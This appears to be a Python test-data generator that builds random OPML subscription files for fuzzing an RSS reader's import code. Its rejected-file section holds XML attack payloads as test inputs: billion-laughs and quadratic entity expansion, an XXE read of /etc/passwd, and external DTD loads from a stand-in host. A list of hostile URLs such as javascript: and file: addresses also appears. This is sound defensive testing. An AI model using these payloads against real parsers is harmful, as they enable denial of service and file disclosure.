"""Random OPML documents, each with a model of what it holds (for
``tests/net/test_random_opml.py``).

A document is a tree of ``Node``s the generator meant as something: a feed (its
address built from an ``Ident``, the identity the app's documented rule gives it,
then spelt one of the ways that rule says is the same feed), a folder, an empty
folder, or an outline to be left out (an unsupported address, a web page, another
OPML file, a site with no feed, a typed outline with no address, one with nothing
at all). ``render`` writes the tree the way one reader or another does (Feedly,
Inoreader, NetNewsWire, Miniflux, FreshRSS, Thunderbird, The Old Reader, Newsboat,
OPML 1.0 ``url=``, Flym, Alligator, a ``category`` attribute, the OPML namespace)
in one encoding or another, sometimes sloppily (a bare "&", HTML entity names).
``expect`` reads the tree, never the bytes, by the rules the app documents
(``smartreader/net/opml.py``'s docstrings, ``core/address.py``, the CHANGELOG):
which outlines are feeds and under which flattened folder name, the label each
keeps, which are left out, the empty folders, the notes.

``broken_document`` makes files that cannot be read at all (empty, cut short,
HTML, a feed, other XML, DTD entity attacks, a lying encoding, garbage): import
must refuse them with ParseError and change nothing.

``corpus_feeds`` takes real titles and addresses from the shared feeds corpus
(``Subs.opml`` of RSParser, the feeds' own titles and self links), read in place:
nothing of it is copied into the project.
"""

from __future__ import annotations

import codecs
import functools
import html
import random
import re
import xml.etree.ElementTree as ET
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import quote, urlsplit

from smartreader.net.sanitize import MAX_TEXT_CHARS
from tests.shared import CORPUS

SEP = " / "  # how a nested folder is flattened (CHANGELOG: a "Tech / Python" folder)
MAX_OUTLINES = 50_000  # net/opml.py: "more than 50000 outlines; the rest skipped"
MAX_DEPTH = 32  # net/opml.py: a folder nested deeper is skipped with what it holds
NS = "https://github.com/smartreader/smartreader/opml"
_DEFAULT_PORT = {"http": 80, "https": 443}


# -- addresses ------------------------------------------------------------------


@dataclass(frozen=True)
class Ident:
    """A feed address in its one spelling (core/address.py): scheme and host in
    lower case, no default port, no fragment, no dot segments, "/" for no path.
    The path's case, a trailing slash and the query tell feeds apart."""

    scheme: str
    host: str
    port: int | None
    path: str
    query: str = ""

    @property
    def key(self) -> str:
        netloc = self.host if self.port is None else f"{self.host}:{self.port}"
        q = f"?{self.query}" if self.query else ""
        return f"{self.scheme}://{netloc}{self.path}{q}"


def ident_of(url: str) -> Ident | None:
    """The identity of a plain address (corpus ones): None unless it is a simple
    http(s) address this model spells without doubt (no user info, no dot
    segments, no escapes in the host, no fragment, no spaces)."""
    if not re.fullmatch(r"https?://[A-Za-z0-9.-]+(:\d{1,5})?(/[^\s#\\]*)?(\?[^\s#]*)?", url):
        return None
    p = urlsplit(url)
    if p.port is not None and not 0 < p.port < 65536:
        return None
    if any(s in (".", "..") for s in p.path.split("/")) or not p.hostname:
        return None
    port = None if p.port in (None, _DEFAULT_PORT[p.scheme]) else p.port
    return Ident(p.scheme, p.hostname.lower(), port, p.path or "/", p.query)


_PATHS = [
    "/feed", "/feed/", "/rss.xml", "/atom.xml", "/index.xml", "/feeds/posts/default",
    "/Blog/Feed.XML", "/blog/feed", "/news/rss", "/podcast/episodes.rss", "/a%20b/feed",
    "/~user/rss", "/caf%C3%A9/feed", "/", "/feed.php", "/wp/feed/atom/",
]  # fmt: skip
_QUERIES = ["", "", "", "", "format=rss", "a=1&b=2", "type=atom&lang=fr", "q=%C3%A9t%C3%A9"]
_HOSTS = [
    "news.example", "blog.example.org", "example.com", "feeds.example.net", "a-b.example",
    "bücher.example", "xn--bcher-kva.example", "127.0.0.1", "[::1]", "podcasts.example.fm",
]  # fmt: skip


def random_ident(rng: random.Random, n: int) -> Ident:
    """A fresh identity (``n`` makes the host unique)."""
    host = rng.choice(_HOSTS)
    if not host.startswith(("[", "127.")):
        host = f"h{n}.{host}" if rng.random() < 0.8 else host
    port = rng.choice([None] * 8 + [8080, 8443])
    path = rng.choice(_PATHS)
    if rng.random() < 0.5:
        path = path.rstrip("/") + f"/{n}" if path != "/" else f"/f{n}"
    return Ident(rng.choice(["http", "https", "https"]), host, port, path, rng.choice(_QUERIES))


def sibling(rng: random.Random, ident: Ident) -> Ident:
    """Another feed whose address differs from ``ident``'s only in what the rule
    keeps: a trailing slash, the path's case, the query, the scheme."""
    choice = rng.randrange(4)
    if choice == 0 and ident.path != "/":
        path = ident.path[:-1] if ident.path.endswith("/") else ident.path + "/"
        return Ident(ident.scheme, ident.host, ident.port, path, ident.query)
    if choice == 1 and any(c.islower() for c in ident.path if c.isascii()):
        i = next(i for i, c in enumerate(ident.path) if c.isascii() and c.islower())
        path = ident.path[:i] + ident.path[i].upper() + ident.path[i + 1 :]
        return Ident(ident.scheme, ident.host, ident.port, path, ident.query)
    if choice == 2:
        return Ident(ident.scheme, ident.host, ident.port, ident.path, ident.query + "&x=1")
    other = "https" if ident.scheme == "http" else "http"
    return Ident(other, ident.host, ident.port, ident.path, ident.query)


@dataclass(frozen=True)
class Login:
    user: str
    password: str
    written: str  # as in the address, before the "@"


def random_login(rng: random.Random, tag: str) -> Login:
    user = rng.choice(["ann", "bob.smith", "ann@corp", "ü-user"])
    password = f"pw-{tag}-" + rng.choice(["s3cr3t", "p:ss", "p@ss", "h%20llo", "ç-ß"])
    written = quote(user, safe="") + ":" + quote(password, safe="")
    if "@" in password and rng.random() < 0.5:
        written = quote(user, safe="") + ":" + password  # unescaped: the last "@" ends it
    return Login(user, password, written)


def spell(rng: random.Random, ident: Ident, login: Login | None = None) -> str:
    """``ident`` written one of the ways that are the same feed (typed_address,
    canonical_url): any case in scheme and host, the default port, a fragment,
    dot segments, white space around, ``feed:`` forms, no scheme (https)."""
    scheme, host, path = ident.scheme, ident.host, ident.path
    if rng.random() < 0.3:
        scheme = rng.choice([scheme.upper(), scheme.capitalize()])
    if rng.random() < 0.3 and not host.startswith("["):
        host = rng.choice([host.upper(), host.capitalize()])
    port = f":{ident.port}" if ident.port is not None else ""
    if not port and rng.random() < 0.15:
        port = f":{_DEFAULT_PORT[ident.scheme]}"
    if rng.random() < 0.15 and path.count("/") >= 2:
        head, _, last = path.rpartition("/")
        path = head + rng.choice(["/./", "/zz/../"]) + last
    elif path == "/" and rng.random() < 0.4:
        path = ""
    query = f"?{ident.query}" if ident.query else ""
    frag = rng.choice(["", "", "", "", "#top", "#", "#!/x"])
    auth = f"{login.written}@" if login else ""
    url = f"{scheme}://{auth}{host}{port}{path}{query}{frag}"
    r = rng.random()
    if r < 0.06 and ident.scheme == "http" and not login:
        url = "feed:" + url[len(scheme) + 1 :]  # feed://host/…
    elif r < 0.12:
        url = rng.choice(["feed:", "FEED:"]) + url
    elif r < 0.18 and ident.scheme == "https" and not login:
        url = url[len(scheme) + 3 :]  # no scheme: https
    if rng.random() < 0.15:
        url = rng.choice([" ", "\n  ", "\t"]) + url + rng.choice([" ", "\n", ""])
    return url


BAD_URLS = [
    "javascript:alert(1)", "file:///etc/passwd", "mailto:news@example.org", "ftp://ftp.example/feed",
    "//cdn.example/feed.xml", "/relative/feed.xml", "https://", "http://[::1", "https:///path",
    "https://host.example:99999/feed", "http://host.example:port/", "data:text/xml,<rss/>",
    "query:Unread Articles:unread = \"yes\"", "exec:~/bin/feed.sh", "filter:~/f.sh:https://x.example/",
    "about:blank", "chrome://settings", "https://" + "x" * 4100 + ".example/feed",
]  # fmt: skip


# -- labels ---------------------------------------------------------------------

_WS = re.compile(r"\s+")
_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ufffe\uffff\ud800-\udfff]")
_BIDI = re.compile("[\u202a-\u202e\u2066-\u2069]")
_STORE_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


def clean(raw: str | None) -> str:
    """A title or name from a file as the app documents keeping it (plain_text):
    control and bidi-override characters removed, white space collapsed,
    ``MAX_TEXT_CHARS`` at most (the last one "…")."""
    v = _WS.sub(" ", _BIDI.sub("", _CONTROL.sub("", raw or ""))).strip()
    if len(v) > MAX_TEXT_CHARS:
        v = v[: MAX_TEXT_CHARS - 1].rstrip() + "…"
    return v


def store_name(raw: str) -> str:
    """A feed's or folder's name as the store keeps it (``store._name``)."""
    return " ".join(_STORE_CONTROL.sub("", raw).split())


_TITLES = [
    "Daring Fireball", "AT&T Developer Blog", "R&D <weekly>", 'The "Quoted" Times', "café crème",
    "📰 News 🚀", "חדשות הבוקר", "أخبار اليوم", "English then עברית mixed", "東京の天気",
    "Ünïcödé Blög", "Zero\u200bwidth", "e\u0301 combining", "  lots   of\t spaces  ",
    "line\nbreak", "nbsp\u00a0here", "&amp; already escaped", "&#8211; dash ref as text",
    "<b>Bold</b> & <i>it</i>", "<![CDATA[ not cdata ]]>", "]]> end", "News / Tech",
    "a/b/c", "C1 \x85 next line", "C1 \x80 euro-ish", "\u202egpj.exe", "RLI \u2067x\u2069",
    "LRM \u200e kept", "DEL \x7f char", "'single'", "tab\there", "👩‍👩‍👧 family", "x" * 30,
]  # fmt: skip
_FOLDERS = [
    "Tech", "tech", "News", "news", "Blogs", "Podcasts", "Ünï", "日本語", "עברית", "Tech / Python",
    "R&D", "<Folder>", "  Spaced  ", "Uncategorized", "\u202eevil", "A\x80B", "Long " * 5, "📁",
]  # fmt: skip


def random_title(rng: random.Random, corpus: list[CorpusFeed]) -> str:
    r = rng.random()
    if r < 0.35 and corpus:
        return rng.choice(corpus).title
    if r < 0.4:
        return rng.choice(_TITLES) * rng.randint(40, 120)  # long: capped
    if r < 0.45:
        return ""
    return rng.choice(_TITLES)


# -- the document model ---------------------------------------------------------


@dataclass
class Node:
    """One outline, as the generator meant it.

    ``role``: "feed" (``ident`` None: an address the app does not support),
    "folder" (an empty one when it has no children), or a left-out one: "link",
    "include", "site" (htmlUrl only), "typed" (a type, no address), "nameless"."""

    role: str
    title: str | None = None  # the attributes as the parser will read them
    text: str | None = None
    url: str | None = None
    url_attr: str = "xmlUrl"
    ident: Ident | None = None
    login: Login | None = None
    html_url: str | None = None
    kind: str | None = None  # the type attribute
    extra: dict[str, str] = field(default_factory=dict)
    children: list[Node] = field(default_factory=list)

    @property
    def site(self) -> str | None:
        """The site the feed keeps (an http(s) or mailto address, else none)."""
        h = (self.html_url or "").strip()
        return h if re.match(r"(?i)(https?://[^/\s]|mailto:)", h) else None


@dataclass
class Doc:
    nodes: list[Node]
    dialect: str = "generic"
    head_title: str | None = "Subscriptions"
    encoding: str = "utf-8"  # codec
    declare: str | None = "UTF-8"  # the XML declaration's encoding (None: no declaration)
    bom: bool = False
    sloppy: float = 0.0  # share of "&amp;" written bare and of characters as HTML names
    doctype: bool = False  # a harmless external DOCTYPE
    ours: bool = False  # our namespace declared (names are then the feeds' own)
    # what ``render`` wrote sloppily: "amp" (a bare "&"), "names" (HTML entity names)
    sloppy_used: set[str] = field(default_factory=set)


def label_of(n: Node, quirks: frozenset[str] = frozenset()) -> str:
    """What an outline is called: its title, else its text (OPML 2.0: text is what
    is shown, title the same for subscription lists). A title that is only white
    space or invisible characters names nothing, so the text does. Quirk
    "blank-title": the title attribute wins whenever it is there at all."""
    if "blank-title" in quirks:
        return clean(n.title or n.text)
    return clean(n.title) or clean(n.text)


# -- expectations ---------------------------------------------------------------


@dataclass(frozen=True)
class Seen:
    """A feed outline import reads: its identity, login, label, flattened folder."""

    ident: Ident
    login: Login | None
    label: str
    folder: str | None
    site: str | None
    # as typed_address spells it with the user info (what the parser tells
    # duplicates apart by)
    spelled: str


@dataclass
class Expected:
    feeds: list[Seen] = field(default_factory=list)  # every supported feed outline, in order
    left_out: int = 0  # outlines left out with a problem (duplicates not counted)
    empty_folders: list[str] = field(default_factory=list)  # flattened, first spelling
    notes: int = 0  # feeds holding outlines (each noted)


def expect(doc: Doc, quirks: frozenset[str] = frozenset()) -> Expected:
    """What importing ``doc`` reads, by the documented rules (net/opml.py): a
    nested folder flattened to "Parent / Child" (a " / " inside one name made
    " - "; no name: "Untitled folder"); a feed holding outlines brings them in a
    folder named after it, with a note; an outline with a name and nothing else
    is an empty folder; the rest left out with a problem each; past
    ``MAX_DEPTH`` a folder is skipped with what it holds, past ``MAX_OUTLINES``
    the rest with one problem.

    ``quirks``: known deviations of the app (see KNOWN in the test) to expect
    instead of the documented rule: "blank-title" (``label_of``) and
    "link-children" (a web page's or OPML file's outline drops the outlines it
    holds; by the rule for a feed holding outlines they would come in)."""
    out = Expected()
    seen_empty: set[str] = set()
    count = 0
    over = False

    def walk(nodes: list[Node], path: list[str], depth: int) -> None:
        nonlocal count, over
        for n in nodes:
            count += 1
            if count > MAX_OUTLINES:
                if not over:
                    over = True
                    out.left_out += 1  # one problem for the rest
                return
            label = label_of(n, quirks)
            is_feed = n.role == "feed" or (n.role == "include" and n.url_attr != "url")
            if n.role in ("link", "include") and n.url_attr == "url":
                out.left_out += 1
                if "link-children" in quirks or not n.children:
                    continue
            elif n.role == "site" and not n.children:
                out.left_out += 1
                continue
            elif is_feed:
                if n.ident is None or n.role == "include":
                    out.left_out += 1
                else:
                    name = SEP.join(path) or None
                    out.feeds.append(Seen(n.ident, n.login, label, name, n.site, spelled(n)))
            if n.children:
                if depth >= MAX_DEPTH:
                    out.left_out += 1
                    continue
                part = label.replace(SEP, " - ") or "Untitled folder"
                if is_feed:
                    out.notes += 1
                walk(n.children, [*path, part], depth + 1)
            elif not is_feed:
                if n.kind:
                    out.left_out += 1
                elif label:
                    name = SEP.join([*path, label.replace(SEP, " - ")])
                    if name not in seen_empty:
                        seen_empty.add(name)
                        out.empty_folders.append(name)
                else:
                    out.left_out += 1

    walk(doc.nodes, [], 0)
    return out


def spelled(n: Node) -> str:
    assert n.ident is not None
    i = n.ident
    if not n.login:
        return i.key
    return i.key.replace("://", f"://{n.login.written}@", 1)


# -- writing --------------------------------------------------------------------

# HTML entity names a sloppy exporter writes (not XML's five)
_NAMES = {"é": "eacute", "©": "copy", "\u00a0": "nbsp", "—": "mdash", "’": "rsquo", "ü": "uuml"}
_REF_AFTER = re.compile(r"(#[0-9]+|#x[0-9A-Fa-f]+|[A-Za-z_][\w.-]*);")


def _attr(value: str, rng: random.Random, sloppy: float, used: set[str]) -> str:
    out: list[str] = []
    for i, c in enumerate(value):
        if c == "&":
            # bare only where it cannot be read as a reference ("AT&T;" would be one)
            if rng.random() < sloppy and not _REF_AFTER.match(value, i + 1):
                out.append("&")
                used.add("amp")
            else:
                out.append("&amp;")
        elif c in '<>"\t\n\r':
            out.append({"<": "&lt;", ">": "&gt;", '"': "&quot;"}.get(c, f"&#{ord(c)};"))
        elif c in _NAMES and rng.random() < sloppy:
            out.append(f"&{_NAMES[c]};")
            used.add("names")
        else:
            out.append(c)
    return "".join(out)


# How each reader writes a feed outline and a folder: attribute order and extras.
_FEED_ATTRS = {
    "feedly": ("type", "text", "title", "xmlUrl", "htmlUrl"),
    "inoreader": ("text", "title", "type", "xmlUrl", "htmlUrl"),
    "netnewswire": ("text", "title", "description", "type", "version", "htmlUrl", "xmlUrl"),
    "miniflux": ("title", "text", "xmlUrl", "htmlUrl", "description"),
    "freshrss": ("text", "type", "xmlUrl", "htmlUrl", "description"),
    "thunderbird": ("type", "title", "text", "version", "xmlUrl", "htmlUrl"),
    "oldreader": ("title", "type", "xmlUrl", "htmlUrl"),
    "newsboat": ("type", "xmlUrl", "htmlUrl", "title"),
    "opml1": ("text", "type", "url"),
    "flym": ("type", "title", "xmlUrl"),
    "alligator": ("xmlUrl", "title"),
    "category": ("text", "title", "type", "xmlUrl", "htmlUrl", "category"),
    "namespaced": ("text", "title", "type", "xmlUrl", "htmlUrl"),
    "generic": ("text", "title", "type", "xmlUrl", "htmlUrl"),
}
DIALECTS = tuple(_FEED_ATTRS)
_HEAD_TITLES = {
    "feedly": "ann subscriptions in feedly Cloud",
    "inoreader": "Subscriptions from Inoreader [https://www.inoreader.com]",
    "netnewswire": "Subscriptions-OnMyMac.opml",
    "miniflux": "Miniflux",
    "freshrss": "FreshRSS",
    "thunderbird": "Thunderbird OPML Export - News & Blogs",
    "oldreader": "The Old Reader subscriptions",
    "newsboat": "newsboat - Exported Feeds",
}


def feed_node(
    rng: random.Random,
    dialect: str,
    ident: Ident | None,
    title: str,
    *,
    url: str | None = None,
    login: Login | None = None,
    html_url: str | None = None,
) -> Node:
    """A feed outline with the attributes ``dialect`` writes (``url``: the address
    as written; by default ``ident``'s own spelling)."""
    if url is None:
        url = ident.key if ident is not None else ""
    n = Node("feed", url=url, ident=ident, login=login, html_url=html_url, kind="rss")
    attrs = _FEED_ATTRS[dialect]
    n.title = title if "title" in attrs else None
    n.text = title if "text" in attrs else None
    if dialect == "opml1":
        n.url_attr = "url"
    elif rng.random() < 0.15:
        n.url_attr = rng.choice(["xmlurl", "XMLURL", "xmlURL"])
    if "type" not in attrs or rng.random() < 0.1:
        n.kind = rng.choice([None, "", "RSS", "atom", "feed", "none", "link"])
        if n.kind == "link" and n.url_attr == "url":
            n.kind = None
    if dialect == "netnewswire":
        n.extra = {"description": "", "version": "RSS"}
    elif dialect == "miniflux":
        n.extra = {"description": ""}
    elif dialect == "freshrss":
        n.extra = {"description": "", "frss:cssFullContent": "article .content"}
    elif dialect == "thunderbird":
        n.extra = {"version": "RSS", "fz:quickMode": "false", "fz:destFolder": "mailbox://x"}
    elif dialect == "category":
        n.extra = {"category": "/" + rng.choice(_FOLDERS).strip() + "/x,/tag"}
    if rng.random() < 0.05:
        # the title is blank, the text names the feed (a reader that writes both)
        n.title, n.text = rng.choice(["  ", "\u202e", "\t"]), title or "Named by text"
    return n


def folder_node(rng: random.Random, dialect: str, name: str, children: list[Node]) -> Node:
    n = Node("folder", children=children)
    if dialect in ("oldreader", "flym"):
        n.title = name
        if dialect == "flym":
            n.kind = "rss"  # Flym types its folders; harmless while they hold outlines
    elif dialect == "thunderbird":
        n.title = n.text = name
    else:
        n.text = name
        n.title = name if rng.random() < 0.7 else None
    if n.kind and not children:
        n.kind = None
    return n


def junk_node(rng: random.Random, n: int) -> Node:
    """An outline import leaves out with a problem."""
    k = rng.randrange(7)
    if k == 0:
        return Node("feed", text=f"Bad {n}", url=rng.choice(BAD_URLS), kind="rss")
    if k == 1:
        page = rng.choice(["https://w.example/page.html", "https://w.example/list.opml"])
        return Node("link", text=f"Link {n}", url=page, url_attr="url", kind="link")
    if k == 2:
        return Node("include", text=f"Inc {n}", url="https://w.example/more.opml",
                    url_attr="url", kind="include")  # fmt: skip
    if k == 3:
        return Node("include", text=f"Inc {n}", url="https://w.example/more.opml",
                    url_attr="xmlUrl", kind="include", ident=None)  # fmt: skip
    if k == 4:
        return Node("site", text=f"Site {n}", html_url="https://site.example/")
    if k == 5:
        return Node("typed", text=f"Typed {n}", kind="rss")
    return Node("nameless")


def render(doc: Doc, rng: random.Random) -> bytes:
    """The document's bytes (see the module docstring)."""
    used: set[str] = set()

    def a(name: str, value: str) -> str:
        return f' {name}="{_attr(value, rng, doc.sloppy, used)}"'

    def outline(n: Node, pad: str) -> list[str]:
        attrs = ""
        order = _FEED_ATTRS.get(doc.dialect, _FEED_ATTRS["generic"])
        values: dict[str, str | None] = {
            "text": n.text,
            "title": n.title,
            "type": n.kind,
            n.url_attr: n.url,
            "htmlUrl": n.html_url,
            **n.extra,
        }
        names = [k for k in order if k in values] + [k for k in values if k not in order]
        for k in names:
            v = values.get(k)
            if v is not None:
                attrs += a(k, v)
        if not n.children:
            return [f"{pad}<outline{attrs}/>"]
        lines = [f"{pad}<outline{attrs}>"]
        for c in n.children:
            lines += outline(c, pad + "  ")
        if rng.random() < 0.05:
            lines.append(f"{pad}  <!-- a comment & <not> an outline -->")
        return [*lines, f"{pad}</outline>"]

    ns = ""
    if doc.dialect == "freshrss":
        ns += ' xmlns:frss="https://freshrss.org/opml"'
    if doc.dialect == "thunderbird":
        ns += ' xmlns:fz="urn:forumzilla:"'
    if doc.dialect == "namespaced":
        ns += ' xmlns="http://opml.org/spec2"'
    if doc.ours:
        ns += f' xmlns:smartreader="{NS}"'
    version = {"netnewswire": "1.1", "miniflux": "2.0", "freshrss": "2.0", "flym": "2.0"}.get(
        doc.dialect, rng.choice(["1.0", "2.0"])
    )
    lines: list[str] = []
    if doc.declare is not None:
        lines.append(f'<?xml version="1.0" encoding="{doc.declare}"?>')
    elif rng.random() < 0.3:
        lines.append('<?xml version="1.0"?>')
    if doc.doctype:
        lines.append('<!DOCTYPE opml SYSTEM "http://dtd.example/opml.dtd">')
    root = "<opml>" if doc.dialect == "alligator" else f'<opml version="{version}"{ns}>'
    lines.append(root)
    if doc.head_title is None:
        lines.append("  <head/>" if rng.random() < 0.5 else "")
    else:
        lines.append(f"  <head>\n    <title>{_attr(doc.head_title, rng, 0, used)}</title>")
        if doc.dialect in ("miniflux", "freshrss") or rng.random() < 0.3:
            lines.append("    <dateCreated>Tue, 10 Jun 2025 04:00:00 GMT</dateCreated>")
        lines.append("  </head>")
    lines.append('  <body version="1.0">' if doc.dialect == "alligator" else "  <body>")
    for n in doc.nodes:
        lines += outline(n, "    ")
    if rng.random() < 0.1:
        lines.append("    <stray>not an outline</stray>")
    lines += ["  </body>", "</opml>", ""]
    doc.sloppy_used = used
    return encode("\n".join(lines), doc)


def encode(text: str, doc: Doc) -> bytes:
    codec = doc.encoding
    if codec in ("utf-8", "utf-16", "utf-16-le", "utf-16-be", "utf-32"):
        data = text.encode(codec)
    else:
        data = text.encode(codec, errors="xmlcharrefreplace")
        if doc.declare is None and not data.isascii():
            try:
                data.decode("utf-8")
            except UnicodeDecodeError:
                pass
            else:  # Windows-1252 bytes that happen to be UTF-8: not what is meant
                data = text.encode("ascii", errors="xmlcharrefreplace")
    if doc.bom and codec == "utf-8":
        data = codecs.BOM_UTF8 + data
    return data


def lenient_decoding(data: bytes, doc: Doc) -> bool:
    """Whether the app must guess the file's encoding (and say so in a note):
    it names none, has no byte-order mark, and is not UTF-8."""
    if doc.declare is not None or doc.bom or doc.encoding.startswith(("utf-16", "utf-32")):
        return False
    try:
        data.decode("utf-8")
    except UnicodeDecodeError:
        return True
    return False


# -- random documents -----------------------------------------------------------


@dataclass
class Pool:
    """Identities a session draws feeds from: known ones come back in other
    spellings, in other folders, as in-file duplicates."""

    idents: list[Ident] = field(default_factory=list)
    n: int = 0

    def fresh(self, rng: random.Random, corpus: list[CorpusFeed]) -> tuple[Ident, str | None]:
        """An identity not drawn before (and the site it names, for a corpus one)."""
        self.n += 1
        if corpus and rng.random() < 0.3:
            c = rng.choice(corpus)
            if c.ident not in self.idents:
                self.idents.append(c.ident)
                return c.ident, c.site
        ident = random_ident(rng, self.n)  # a host of its own but for a few
        if self.idents and rng.random() < 0.15:
            ident = sibling(rng, rng.choice(self.idents))
        while ident in self.idents:
            self.n += 1
            ident = random_ident(rng, self.n)
        self.idents.append(ident)
        return ident, None

    def pick(self, rng: random.Random, corpus: list[CorpusFeed]) -> tuple[Ident, str | None]:
        if self.idents and rng.random() < 0.3:
            return rng.choice(self.idents), None
        return self.fresh(rng, corpus)


def random_document(
    rng: random.Random,
    pool: Pool,
    corpus: list[CorpusFeed],
    *,
    logins: bool = True,
    max_feeds: int = 40,
) -> Doc:
    """A random subscription list as some reader exports it."""
    dialect = rng.choice(DIALECTS)
    n_feeds = rng.randint(0, max_feeds)
    serial = [0]

    def feed() -> Node:
        serial[0] += 1
        ident, site = pool.pick(rng, corpus)
        login = (
            random_login(rng, f"{pool.n}x{serial[0]}") if logins and rng.random() < 0.08 else None
        )
        html_url = site or rng.choice(
            [None, None, f"https://{ident.host}/", "javascript:void(0)", "", "/relative",
             "mailto:a@b.example"]
        )  # fmt: skip
        url = spell(rng, ident, login)
        title = random_title(rng, corpus)
        if rng.random() < 0.05:  # no name but the address (as written, or its own spelling)
            title = rng.choice([url.strip(), ident.key])
        return feed_node(rng, dialect, ident, title, url=url, login=login, html_url=html_url)

    def level(budget: int, depth: int) -> list[Node]:
        nodes: list[Node] = []
        while budget > 0:
            r = rng.random()
            if r < 0.55 or (dialect in ("newsboat", "alligator") and r < 0.95):
                nodes.append(feed())
                budget -= 1
            elif r < 0.8 and depth < 3:
                take = rng.randint(0, budget)
                name = rng.choice(_FOLDERS) if rng.random() < 0.8 else random_title(rng, corpus)
                nodes.append(folder_node(rng, dialect, name, level(take, depth + 1)))
                budget -= max(take, 1)
            elif r < 0.9:
                nodes.append(junk_node(rng, serial[0]))
                budget -= 1
            elif r < 0.94:
                # a feed holding outlines (NetNewsWire-era, hand-edited lists)
                parent = feed()
                parent.children = level(rng.randint(1, 3), depth + 1)
                nodes.append(parent)
                budget -= 2
            else:
                empty = folder_node(rng, dialect, rng.choice(_FOLDERS), [])
                nodes.append(empty)
                budget -= 1
        return nodes

    nodes = level(n_feeds, 0)
    if rng.random() < 0.1:
        nodes.append(deep_chain(rng, dialect, feed, rng.randint(30, 40)))
    if rng.random() < 0.04:
        # a web page outline holding feeds (see KNOWN in the test)
        link = junk_node(rng, 0)
        while link.role != "link":
            link = junk_node(rng, 0)
        link.children = [feed()]
        nodes.append(link)
    doc = Doc(nodes, dialect=dialect)
    doc.head_title = rng.choice([_HEAD_TITLES.get(dialect, "Subscriptions"), None, "Mine & yours"])
    enc = rng.random()
    if enc < 0.55:
        doc.encoding, doc.declare = "utf-8", rng.choice(["UTF-8", "utf-8", None])
        doc.bom = rng.random() < 0.2
    elif enc < 0.7:
        doc.encoding = rng.choice(["utf-16", "utf-16-le", "utf-16-be"])
        doc.declare = "UTF-16"
        if doc.encoding != "utf-16":  # no byte-order mark: told by how "<" is written
            doc.declare = rng.choice(["UTF-16", None])
    elif enc < 0.75:
        doc.encoding, doc.declare = "utf-32", "UTF-32"
    elif enc < 0.88:
        doc.encoding = rng.choice(["iso-8859-1", "cp1252", "us-ascii"])
        doc.declare = {"iso-8859-1": rng.choice(["ISO-8859-1", "latin1"]),
                       "cp1252": "windows-1252", "us-ascii": "US-ASCII"}[doc.encoding]  # fmt: skip
    else:
        doc.encoding, doc.declare = "cp1252", None  # named nowhere: read leniently
    doc.sloppy = rng.choice([0.0, 0.0, 0.0, 0.3, 1.0])
    doc.doctype = rng.random() < 0.05
    return doc


def deep_chain(rng: random.Random, dialect: str, feed: Callable[[], Node], depth: int) -> Node:
    """Folders nested ``depth`` deep, a feed at most levels."""
    inner: list[Node] = [feed()]
    for i in range(depth, 0, -1):
        inner = (
            [folder_node(rng, dialect, f"L{i}", inner), feed()]
            if i % 7
            else [folder_node(rng, dialect, f"L{i}", inner)]
        )
    return inner[0]


def huge_document(rng: random.Random, pool: Pool, corpus: list[CorpusFeed]) -> Doc:
    """More than ``MAX_OUTLINES`` outlines: feeds before the limit come in, the rest
    is skipped with one problem (the filler is outlines left out, so the import
    stays quick)."""
    before = [feed_node(rng, "generic", *_fresh(pool, rng, corpus)) for _ in range(20)]
    filler = [Node("typed", text="t", kind="rss") for _ in range(MAX_OUTLINES - 25)]
    after = [feed_node(rng, "generic", *_fresh(pool, rng, corpus)) for _ in range(20)]
    return Doc([*before, *filler, *after], head_title="huge")


def _fresh(pool: Pool, rng: random.Random, corpus: list[CorpusFeed]) -> tuple[Ident, str]:
    ident, _ = pool.fresh(rng, corpus)
    return ident, rng.choice(_TITLES)


# -- files that cannot be read ------------------------------------------------------

_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE opml [\n <!ENTITY a "aaaaaaaaaa">\n'
    + "".join(f' <!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">\n' for i in range(8))
    + ']>\n<opml version="2.0"><body><outline text="&i;" xmlUrl="https://a.example/"/></body></opml>'
)
_QUADRATIC = (
    '<?xml version="1.0"?><!DOCTYPE opml [<!ENTITY x "' + "x" * 50_000 + '">]>'
    '<opml version="2.0"><body><outline text="' + "&x;" * 2000 + '" xmlUrl="https://a.example/"/>'
    "</body></opml>"
)
_XXE = (
    '<?xml version="1.0"?><!DOCTYPE opml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    '<opml version="2.0"><body><outline text="&xxe;" xmlUrl="https://a.example/"/></body></opml>'
)
_PARAM = (
    '<?xml version="1.0"?><!DOCTYPE opml [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'
    '<opml version="2.0"><body/></opml>'
)
_EXTERNAL_UNDEFINED = (
    '<?xml version="1.0"?><!DOCTYPE opml SYSTEM "http://evil.example/x.dtd">'
    '<opml version="2.0"><body><outline text="&undefinedthing;" xmlUrl="https://a.example/"/>'
    "</body></opml>"
)
_HTML = [
    "<!DOCTYPE html><html><head><title>404 Not Found</title></head><body>nope</body></html>",
    "<html><body><h1>Moved</h1></body></html>",
    '<?xml version="1.0"?>\n<!-- saved page -->\n<html xmlns="http://www.w3.org/1999/xhtml">'
    "<body/></html>",
    '<?xml version="1.0" encoding="utf-8"?><!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN"'
    ' "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html xmlns="http://www.w3.org/1999/xhtml">'
    "<head><title>x</title></head><body><p>x</p></body></html>",
    "\n\n   <HTML><BODY>upper</BODY></HTML>",
]
_OTHER_XML = [
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>',
    '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>https://a/</loc></url></urlset>',
    "<opml-ish/>",
    '<rss version="2.0"><channel><title>x</title></channel></rss>',
    '<feed xmlns="http://www.w3.org/2005/Atom"><title>x</title></feed>',
    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>',
    '<opml version="2.0"><head><title>no body</title></head></opml>',
    '<opml version="2.0"><body><outline text="x" xmlUrl="https://a.example/"></body></opml>',
    '<opml version="2.0"><body><outline text="fubar "baz"" xmlUrl="https://a.example/"/></body></opml>',
